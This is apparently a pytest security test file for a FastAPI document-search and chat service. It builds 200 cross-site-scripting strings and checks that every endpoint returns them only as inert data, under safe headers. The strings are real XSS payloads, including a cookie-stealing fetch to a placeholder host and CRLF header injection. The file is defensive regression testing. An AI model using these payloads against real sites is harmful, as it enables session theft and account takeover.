"""Two hundred strings that would be scripts if anything took them for markup: as questions, addresses, names, texts."""

from __future__ import annotations

import json
from email.message import Message
from itertools import islice, product
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest
from fastapi.testclient import TestClient

from api.originals import MEDIA_TYPES, SHOWN_IN_PLACE
from indexer.library import Location

CODE = ("alert(1)", "fetch('//e.example/'+document.cookie)", "top.location='//e.example'", "import('//e.example/x.js')")
MARKUP = (
    "<script>{}</script>",
    "<ScRiPt src=data:text/javascript,{}></sCrIpT>",
    "</script><script>{}//",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror=\"{}\">",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "[x](javascript:{})",
    '![x](x"onerror="{})',
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<object data='javascript:{}'>",
    "<embed src='data:image/svg+xml,<svg onload={}>'>",
    "<form action=javascript:{}><button>",
    "<base href='//e.example/'><script>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='data:text/css,*{{x:expression({})}}'>",
    "<style>@import 'javascript:{}';</style>",
    '"><script>{}</script>',
    "' onmouseover='{}",
    '" autofocus onfocus="{}',
    "`-{}-`",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\u2028<script>{}</script>\u2029",
    "\ufeff\ufeff<script>{}</script>",
    "<scr\x00ipt>{}</script>",
    "\r\nContent-Type: text/html\r\n\r\n<script>{}</script>",
    "event: answer\ndata: <script>{}</script>\n\n",
    "<template shadowrootmode=open><script>{}</script></template>",
    "<portal src=javascript:{}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea></textarea><script>{}</script>",
    "<xmp></xmp><script>{}</script>",
    "<b style='background:url(javascript:{})'>x</b>",
    "<div onclick={} style=position:fixed;inset:0>",
)
STRINGS = list(islice((markup.format(code) for code, markup in product(CODE, MARKUP)), 200))
HARMLESS = {"application/json", "text/event-stream; charset=utf-8"}


def require_harmless(response: Any) -> None:
    """Whatever a browser makes of the response, nothing in it runs."""
    headers = response.headers
    assert headers["content-type"] in HARMLESS
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-security-policy"].startswith("default-src 'none'; sandbox;")
    assert headers["cross-origin-resource-policy"] == "same-origin"


def test_there_are_two_hundred() -> None:
    assert len(set(STRINGS)) == len(STRINGS) == 200


@pytest.mark.parametrize(
    ("address", "body"),
    [
        ("/api/ask", lambda text: {"question": text}),
        ("/api/ask/stream", lambda text: {"question": text, "history": [text]}),
        ("/api/search", lambda text: {"query": text}),
        ("/api/feedback", lambda text: {"question": text, "verdict": "down", "comment": text, "answer_id": text[:64]}),
        ("/v1/chat/completions", lambda text: {"model": "namndsvar", "messages": [{"role": "user", "content": text}]}),
        ("/v1/chat/completions", lambda text: {"model": text, "messages": []}),
    ],
)
def test_what_is_asked_comes_back_as_data(client: TestClient, address: str, body: Any) -> None:
    for text in STRINGS:
        response = client.post(address, json=body(text))
        require_harmless(response)
        assert response.status_code < 500
        if "event-stream" in response.headers["content-type"]:
            assert {line.partition(":")[0] for line in response.text.split("\n")} <= {"event", "data", ""}


def test_an_address_comes_back_as_data(client: TestClient) -> None:
    for text in STRINGS:
        sent = quote(text, safe="")
        for address in (
            f"/{sent}",
            f"/api/documents/{sent}",
            f"/api/documents?text={sent}",
            f"/api/search?query={sent}",
        ):
            require_harmless(client.get(address.format(sent), headers={"x-request-id": quote(text)}))


@pytest.mark.parametrize("format_", [*MEDIA_TYPES, "svg"])
def test_an_original_never_runs_here(client: TestClient, engine: Any, format_: str) -> None:
    shelf = engine.library
    file = shelf.path / "brev.docx"
    file.write_bytes(b"Hur m\xc3\xa5nga lekplatser finns?")
    known = shelf.document
    one = known("b" * 16)
    shelf.document = lambda document_id: type(one)(one.id, one.path, one.kind, one.title, format_)
    headers = client.get(f"/api/documents/{one.id}/original").headers
    assert headers["content-security-policy"].startswith("default-src 'none'; sandbox;")
    assert headers["x-content-type-options"] == "nosniff"
    shown = headers["content-disposition"].startswith("inline")
    assert shown == (format_ in SHOWN_IN_PLACE)
    if shown:
        assert headers["content-type"].partition(";")[0] in {"application/pdf", "text/plain", "text/markdown"}


def test_a_files_name_is_only_a_name(client: TestClient, engine: Any) -> None:
    shelf = engine.library
    (content,) = (place.content for place in shelf.locations(["b" * 16])["b" * 16])
    for text in STRINGS:
        name = text.replace("/", "_").replace("\x00", "_")[:80]
        file = Path(shelf.path / name)
        file.write_bytes("Hur många lekplatser finns?".encode())
        place = Location(str(file), str(shelf.path), name, content, "")
        shelf.locations = lambda ids, place=place: {"b" * 16: [place]}
        response = client.get(f"/api/documents/{'b' * 16}/original")
        assert response.status_code == 200
        told = Message()
        told["content-disposition"] = response.headers["content-disposition"]
        assert told.get_content_disposition() == "attachment"
        assert not {"\r", "\n"} & set(response.headers["content-disposition"])
        assert "text/html" not in response.headers.get_list("content-type")
        starred = response.headers["content-disposition"].partition("filename*=")[2]
        assert not starred or unquote(starred.removeprefix("utf-8''")) == name
        file.unlink()


def test_a_documents_own_words_come_back_as_data(client: TestClient, engine: Any) -> None:
    """Titles, speakers and texts go the same way as those of the letter, whose title is markup."""
    for address in ("/api/documents", f"/api/documents/{'b' * 16}", "/api/status", "/api/search?query=park"):
        response = client.get(address)
        require_harmless(response)
        json.loads(response.text)
    assert "<b>lekplatser</b>" in client.get("/api/documents").text
